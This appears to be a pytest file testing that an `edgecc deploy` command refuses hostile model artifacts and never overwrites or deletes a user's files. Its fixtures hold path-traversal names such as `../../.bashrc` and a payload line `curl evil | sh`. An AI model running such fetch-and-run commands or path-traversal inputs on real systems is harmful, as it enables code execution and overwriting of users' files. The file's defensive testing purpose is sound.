"""`edgecc deploy` on hostile artifacts and onto folders holding the user's files: the artifact gets the
checks `edgecc run` applies before anything is copied, and a deploy never writes outside its bundle
or deletes a file it did not write."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pytest

from fixtures_hostile import assert_refused, invoke, snapshot, staging_left


@pytest.fixture
def home(tmp_path, tiny_artifact) -> Path:
    """A user's home: a ~/.bashrc of theirs and a downloaded artifact two folders below it."""
    root = tmp_path / "home"
    (root / "downloads").mkdir(parents=True)
    (root / ".bashrc").write_text("the user's shell settings\n")
    shutil.copytree(tiny_artifact, root / "downloads" / "evil")
    return root


def _edit_manifest(folder: Path, edit) -> None:
    path = folder / "manifest.json"
    manifest = json.loads(path.read_text())
    edit(manifest)
    path.write_text(json.dumps(manifest))


def _entry(data: bytes) -> dict:
    return {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}


def _deploy_refused(folder: Path, cwd: Path, *fragments, bundle: str = "bundle") -> None:
    before = snapshot(cwd.parent)
    result = invoke("deploy", folder, "-o", bundle, "-q", cwd=cwd)
    assert_refused(result.exit_code, result.stderr, *fragments, code=2)
    assert snapshot(cwd.parent) == before, "the refused deploy changed files"
    assert staging_left(cwd.parent) == []


@pytest.mark.parametrize("name", ["../../.bashrc", "sub/../../../.bashrc", "/etc/hostname", "~/.bashrc", "..\\x"])
def test_a_file_table_naming_paths_outside_the_artifact_writes_nothing(home, name):
    """The attack of the report: a manifest listing `../../.bashrc` overwrote the user's, exit 0."""
    artifact = home / "downloads" / "evil"
    payload = b"curl evil | sh\n"
    (artifact / "payload").write_bytes(payload)
    _edit_manifest(artifact, lambda m: m["files"].update({name: _entry(payload)}))
    _deploy_refused(artifact, home / "downloads", "the file table names", "refusing the artifact")
    assert (home / ".bashrc").read_text() == "the user's shell settings\n"
    for command in (["run", artifact], ["bench", artifact, "--min-seconds", "0.1"]):  # the same checks everywhere
        result = invoke(*command)
        assert_refused(result.exit_code, result.stderr, "the file table names", code=2)


@pytest.mark.parametrize(
    "library, fragment",
    [
        ("../../.bashrc", "is not a file inside the artifact folder"),
        ("/usr/lib/x86_64-linux-gnu/libc.so.6", "is not a file inside the artifact folder"),
        ("", "must be a file name"),
    ],
)
def test_a_library_outside_the_artifact_is_not_deployed(home, library, fragment):
    artifact = home / "downloads" / "evil"
    _edit_manifest(artifact, lambda m: m.update(library=library))
    _deploy_refused(artifact, home / "downloads", fragment)


def test_a_library_linked_out_of_the_artifact_is_not_deployed(home):
    artifact = home / "downloads" / "evil"
    shutil.move(artifact / "model.so", home / "elsewhere.so")
    (artifact / "model.so").symlink_to(home / "elsewhere.so")
    _deploy_refused(artifact, home / "downloads", "leads outside the artifact folder")


def test_bundle_files_are_copied_only_when_they_are_what_the_compile_wrote(home):
    artifact = home / "downloads" / "evil"
    (artifact / "kernels.metal").write_text("changed after the compile")
    _edit_manifest(artifact, lambda m: m["files"].update({"kernels.metal": _entry(b"what the compile wrote")}))
    _deploy_refused(artifact, home / "downloads", "kernels.metal is", "was truncated or changed after the compile")


def test_a_truncated_library_with_a_matching_manifest_is_not_deployed(home):
    artifact = home / "downloads" / "evil"
    library = artifact / "model.so"
    library.write_bytes(library.read_bytes()[:200000])
    _edit_manifest(artifact, lambda m: m["files"].update({"model.so": _entry(library.read_bytes())}))
    _deploy_refused(artifact, home / "downloads", f"{library} is truncated")


@pytest.mark.parametrize(
    "damage, fragment",
    [
        (lambda p: p.write_text("[" * 100000 + "]" * 100000), "nests 100000 levels deep"),
        (lambda p: p.write_bytes(b" " * (17 << 20)), "is larger than 16 MiB"),
        (lambda p: p.write_bytes(b'{"format": "\xff"}'), "is not UTF-8 text"),
        (lambda p: (p.unlink(), p.symlink_to("/dev/zero")), "is not a regular file"),
    ],
)
def test_a_manifest_too_deep_too_large_or_not_a_file_is_one_line(home, damage, fragment):
    artifact = home / "downloads" / "evil"
    damage(artifact / "manifest.json")
    _deploy_refused(artifact, home / "downloads", "manifest.json", fragment)
    for command in (["run", artifact], ["bench", artifact, "--min-seconds", "0.1"]):
        result = invoke(*command)
        assert_refused(result.exit_code, result.stderr, fragment, code=2)


@pytest.mark.parametrize(
    "edit, fragment",
    [
        (lambda m: m.update(target="host"), "field 'target' is missing or not a dict"),
        (lambda m: m["target"]["board"].update(cores=10**9), "target.board.cores"),
        (lambda m: m.update(versions=[]), "field 'versions' is not a dict"),
        (lambda m: m.update(files={"model.so": "abc"}), "entry for 'model.so' is not {bytes, sha256}"),
    ],
)
def test_manifest_fields_of_the_wrong_kind_are_one_line(home, edit, fragment):
    artifact = home / "downloads" / "evil"
    _edit_manifest(artifact, edit)
    _deploy_refused(artifact, home / "downloads", fragment)


@pytest.fixture
def bundle(tiny_artifact, tmp_path) -> Path:
    out = tmp_path / "work" / "bundle"
    out.parent.mkdir()
    assert invoke("deploy", tiny_artifact, "-o", out, "-q").exit_code == 0
    return out


def test_the_bundle_records_every_file_it_wrote(bundle):
    recorded = json.loads((bundle / "model.json").read_text())["files"]
    written = {str(p.relative_to(bundle)) for p in bundle.rglob("*") if p.is_file()} - {"model.json"}
    assert set(recorded) == written and {"model.so", "bin/edgecc-run", "lib/libtvm_runtime.so"} <= written
    assert recorded["model.so"]["sha256"] == hashlib.sha256((bundle / "model.so").read_bytes()).hexdigest()


@pytest.mark.parametrize(
    "users, fragment",
    [
        ({"last_hidden_state.npy": "outputs of bin/edgecc-run (--output-dir defaults to .)"}, "also holds"),
        ({"results/run1.npy": "kept in a folder of theirs"}, "also holds results/"),
        ({"src/build/CMakeCache.txt": "a rebuild of the C API"}, "also holds src/build/"),
        ({"README.md": "with the user's notes"}, "holds README.md, changed since edgecc wrote"),
    ],
)
def test_deploying_again_onto_a_bundle_keeps_the_users_files(bundle, tiny_artifact, users, fragment):
    for name, text in users.items():
        (bundle / name).parent.mkdir(parents=True, exist_ok=True)
        (bundle / name).write_text(text)
    before = snapshot(bundle.parent)
    result = invoke("deploy", tiny_artifact, "-o", bundle, "-q")
    assert_refused(result.exit_code, result.stderr, fragment, "not replacing it", code=2)
    assert snapshot(bundle.parent) == before and staging_left(bundle.parent) == []
    for name, text in users.items():
        assert (bundle / name).read_text() == text


def test_deploying_again_onto_an_untouched_bundle_replaces_it(bundle, tiny_artifact):
    stamp = (bundle / "model.json").stat().st_mtime_ns
    assert invoke("deploy", tiny_artifact, "-o", bundle, "-q").exit_code == 0
    assert (bundle / "model.json").stat().st_mtime_ns != stamp and staging_left(bundle.parent) == []


def test_a_bundle_that_does_not_list_its_files_is_not_replaced(bundle, tiny_artifact):
    """An older edgecc's bundle: what in it is the user's cannot be told, so it is left alone."""
    description = json.loads((bundle / "model.json").read_text())
    del description["files"]
    (bundle / "model.json").write_text(json.dumps(description))
    before = snapshot(bundle.parent)
    result = invoke("deploy", tiny_artifact, "-o", bundle, "-q")
    assert_refused(result.exit_code, result.stderr, "does not list its own files", code=2)
    assert snapshot(bundle.parent) == before


@pytest.mark.parametrize("output", ["{bundle}/lib/libtvm_cuda.so", "{bundle}"])
def test_a_path_the_user_names_inside_the_bundle_folder_is_refused_before_any_work(bundle, tiny_artifact, output):
    result = invoke("deploy", tiny_artifact, "-o", bundle, "--cuda-runtime", output.format(bundle=bundle), "-q")
    assert_refused(result.exit_code, result.stderr, "--cuda-runtime", "is inside the bundle folder", code=2)


def test_the_bundle_folder_may_not_hold_the_artifact(tiny_artifact, tmp_path):
    outer = tmp_path / "outer"
    shutil.copytree(tiny_artifact, outer / "artifact")
    before = snapshot(tmp_path)
    result = invoke("deploy", outer / "artifact", "-o", outer, "-q")
    assert_refused(result.exit_code, result.stderr, "holds the artifact", code=2)
    assert snapshot(tmp_path) == before
